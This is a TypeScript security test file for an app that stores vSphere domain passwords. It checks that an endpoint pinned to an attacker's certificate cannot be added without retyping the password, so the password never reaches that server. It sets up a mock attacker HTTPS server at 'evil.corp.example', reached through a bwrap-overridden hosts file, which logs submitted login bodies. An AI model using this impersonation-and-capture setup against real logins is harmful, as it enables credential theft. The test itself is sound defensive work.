// X2-domainpin: a settings page running someone else's script adds an endpoint inside a domain
// whose password is stored, pinned to the attacker's own certificate, without the password. The
// next login (no prompt while the domain credential is unlocked) sends the domain's password to
// whoever answers for that name with that certificate. Real IPC router, handlers and
// AppServices (config.json in a temp home, the keychain in memory); the login is the broker's
// own (VsphereUpstreamLogin) in a child under bwrap, whose /etc/hosts answers for the in-domain
// name from 127.0.0.1, where the attacker's real TLS server (openssl-made certificate) listens.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import crypto from 'node:crypto';
import { once } from 'node:events';
import fs from 'node:fs';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import type { AppServices } from '../../../src/main/app-services.js';
import { ConfigStore } from '../../../src/platform/config/config-store.js';
import type { MemoryKeychain } from '../../mocks/memory-keychain.js';
import { startSettingsWorld, type SettingsWorld } from './settings-world.js';
import { SERVICE_CONTENT_RESPONSE, soapEnvelope, soapMethodOf } from '../../support/fake-vcenter.js';
import { createTestPki, type TestPki } from '../../support/openssl-pki.js';
import { passwordOf } from '../../support/password-of.js';

const ROOT = path.resolve(import.meta.dirname, '../../..');
const CHILD = path.join(ROOT, 'test/fixtures/vsphere-login-child.ts');
const FP_A = 'AA:'.repeat(31) + 'AA';
const FP_B = 'BB:'.repeat(31) + 'BB';
const vc9 = { id: 'vc9', kind: 'vsphere', url: 'https://vc9.corp.example', username: 'admin', readOnly: false, ttlSeconds: 7200, domain: 'corp.example', fingerprintSha256: FP_A };
const REFUSED = /^enter the domain password again in the Password field to trust its (certificate pin|CA file) for \w+: without it, corp\.example's stored password goes only to servers checked by the system's trust store or by the pin or CA file of another corp\.example endpoint$/;


describe('the settings page cannot pair an in-domain name with its own certificate (X2-domainpin)', { skip: process.platform !== 'linux' && 'bwrap' }, () => {
  let pki: TestPki;
  let attacker: https.Server;
  let attackerUrl: string;
  let attackerPin: string;
  let caFile: string;
  let hostsFile: string;
  const logins: string[] = [];
  let world: SettingsWorld;
  let home: string;
  let keychain: MemoryKeychain;
  let services: AppServices;
  const invoke = (channel: string, payload: unknown) => world.invoke(channel, payload);

  before(async () => {
    pki = createTestPki();
    // The attacker's own certificate for the in-domain name: self-signed, so only a pin trusts it.
    const leaf = pki.selfSigned('DNS:evil.corp.example');
    attackerPin = new crypto.X509Certificate(leaf.cert).fingerprint256;
    attacker = https.createServer({ key: leaf.key, cert: leaf.cert }, (req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        res.writeHead(soapMethodOf(body) === 'RetrieveServiceContent' ? 200 : 500, { 'content-type': 'text/xml; charset=utf-8' });
        if (soapMethodOf(body) === 'RetrieveServiceContent') return res.end(soapEnvelope(SERVICE_CONTENT_RESPONSE));
        logins.push(body);
        res.end(soapEnvelope('<soapenv:Fault><faultcode>ServerFaultCode</faultcode><faultstring>Cannot complete login</faultstring></soapenv:Fault>'));
      });
    });
    attacker.listen(0, '127.0.0.1');
    await once(attacker, 'listening');
    attackerUrl = `https://evil.corp.example:${(attacker.address() as AddressInfo).port}`;
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kb-domainpin-'));
    hostsFile = path.join(dir, 'hosts');
    fs.writeFileSync(hostsFile, '127.0.0.1 localhost\n127.0.0.1 evil.corp.example\n');
    caFile = path.join(dir, 'attacker-ca.pem');
    fs.writeFileSync(caFile, pki.ca.cert);
  });
  after(async () => {
    attacker.closeAllConnections();
    await new Promise((resolve) => attacker.close(resolve));
    pki.remove();
    fs.rmSync(path.dirname(hostsFile), { recursive: true, force: true });
  });

  beforeEach(async () => {
    world = startSettingsWorld('kb-domainpin-home-');
    ({ home, keychain, services } = world);
    logins.length = 0;
    // The user's own endpoint: the domain password typed once, for vc9 pinned to FP_A.
    assert.equal((await invoke('endpoints:add', { ...vc9, password: 'domain-password' })).ok, true, 'the user adds vc9 with the domain password');
  });
  afterEach(() => world.dispose());

  /** The broker's next login to `id` with the stored domain password, from inside the attacker's network. */
  async function nextLogin(id: string): Promise<{ ok: boolean; message?: string }> {
    const child = spawn('bwrap', ['--dev-bind', '/', '/', '--ro-bind', hostsFile, '/etc/hosts', '--', process.execPath, '--import', 'tsx', CHILD, home, id], { cwd: ROOT, stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (c: Buffer) => (out += c.toString()));
    child.stderr.on('data', (c: Buffer) => (err += c.toString()));
    child.stdin.end(passwordOf(keychain.items.get('domain:corp.example')) ?? '');
    const [code] = (await once(child, 'close')) as [number | null];
    assert.equal(code, 0, `the login child failed: ${err}`);
    return JSON.parse(out.trim().split('\n').pop()!) as { ok: boolean; message?: string };
  }

  it('Security: adding evil.corp.example pinned to the attacker\'s certificate without the password is refused, and the domain password never reaches that server', async () => {
    const res = await invoke('endpoints:add', { ...vc9, id: 'evil', url: attackerUrl, fingerprintSha256: attackerPin });
    // What the next login does with whatever the page managed to store.
    if (services.listEndpoints().some((e) => e.id === 'evil')) await nextLogin('evil');
    assert.ok(!logins.some((b) => b.includes('domain-password')), 'the domain password reached the attacker\'s pinned server');
    assert.equal(res.ok, false, 'a page added an in-domain endpoint with its own pin without the domain password');
    if (!res.ok) assert.match(res.error.message, REFUSED, 'the one line says to type the domain password');
    assert.deepEqual(services.listEndpoints().map((e) => e.id), ['vc9'], 'nothing was added');

    // The same add with the password typed again (the user chose to trust that certificate)
    // goes through, and the login does reach that server: the check above is not vacuous.
    assert.equal((await invoke('endpoints:add', { ...vc9, id: 'evil', url: attackerUrl, fingerprintSha256: attackerPin, password: 'typed-for-evil' })).ok, true, 'typed again, the pin is the user\'s choice');
    await nextLogin('evil');
    assert.ok(logins.some((b) => b.includes('typed-for-evil')), 'the harness reaches the pinned server by its in-domain name');
    assert.ok(!logins.some((b) => b.includes('domain-password')), 'only the password typed for it went there');
  });

  it('Security: a CA file of its own, or an edit to a pin nobody typed the password for, needs the password too', async () => {
    const ca = await invoke('endpoints:add', { ...vc9, id: 'evil', url: attackerUrl, fingerprintSha256: undefined, caFile });
    assert.equal(ca.ok, false, 'a page added an in-domain endpoint with its own CA file');
    if (!ca.ok) assert.match(ca.error.message, REFUSED, 'the one line for a CA file');
    assert.ok(!ca.ok && ca.error.message.includes('its CA file'), 'names the CA file');
    const both = await invoke('endpoints:add', { ...vc9, id: 'evil', url: attackerUrl, caFile });
    assert.ok(!both.ok && both.error.message.includes('its certificate pin and CA file'), 'names both');
    const edit = await invoke('endpoints:edit', { ...vc9, fingerprintSha256: attackerPin });
    assert.equal(edit.ok, false, 'an edit pinned vc9 to the attacker\'s certificate');
    if (!edit.ok) assert.match(edit.error.message, REFUSED, 'the one line for an edit');
    assert.equal(services.listEndpoints()[0]!.fingerprintSha256, FP_A, 'vc9 keeps its pin');
    assert.equal(passwordOf(keychain.items.get('domain:corp.example')), 'domain-password', 'the domain password is untouched');
  });

  it('another host of the domain with the system\'s trust store, or the pin or CA file another endpoint of the domain has, needs no password', async () => {
    const system = { ...vc9, id: 'vc10', url: 'https://vc10.corp.example', fingerprintSha256: undefined };
    assert.equal((await invoke('endpoints:add', JSON.parse(JSON.stringify(system)))).ok, true, 'the system trust store, as every host of the domain');
    assert.equal((await invoke('endpoints:add', { ...vc9, id: 'vc11', url: 'https://vc11.corp.example' })).ok, true, 'vc9\'s pin (one certificate for both)');
    // vc10 moves to vc9's pin, then back to the system store; FP_B was never typed for.
    assert.equal((await invoke('endpoints:edit', { ...system, fingerprintSha256: FP_A })).ok, true, 'an edit to another endpoint\'s pin');
    assert.equal((await invoke('endpoints:edit', JSON.parse(JSON.stringify(system)))).ok, true, 'an edit to the system store');
    assert.equal((await invoke('endpoints:edit', { ...system, fingerprintSha256: FP_B })).ok, false, 'an edit to a pin no endpoint has');
    // A CA file the user trusted with the password vouches for the next host with the same file.
    assert.equal((await invoke('endpoints:add', { ...vc9, id: 'vc12', url: 'https://vc12.corp.example', fingerprintSha256: undefined, caFile, password: 'domain-password' })).ok, true, 'typed for the CA file');
    assert.equal((await invoke('endpoints:add', { ...vc9, id: 'vc13', url: 'https://vc13.corp.example', fingerprintSha256: undefined, caFile })).ok, true, 'the same CA file again');
    assert.deepEqual(services.listEndpoints().map((e) => e.id), ['vc9', 'vc10', 'vc11', 'vc12', 'vc13'], 'all added');
    assert.equal(passwordOf(keychain.items.get('domain:corp.example')), 'domain-password', 'one domain password throughout');
  });

  it('Security: without a password only a domain credential may be shared, never an endpoint\'s own one', async () => {
    // An endpoint credential left in config.json without its endpoint (a hand edit, an old
    // version) was typed for that endpoint's server only; a new vc1 may not take it over.
    new ConfigStore(home).update((c) => ({ ...c, credentials: [...c.credentials, { id: 'endpoint:vc1', ttlSeconds: 3600 }] }));
    await keychain.set('endpoint:vc1', 'vc1-password');
    const res = await invoke('endpoints:add', { ...vc9, id: 'vc1', url: attackerUrl, domain: undefined, fingerprintSha256: attackerPin });
    assert.equal(res.ok, false, 'an endpoint without a domain needs its password');
    if (!res.ok) assert.match(res.error.message, /^enter the password for a new endpoint$/, 'the old line');
  });
});
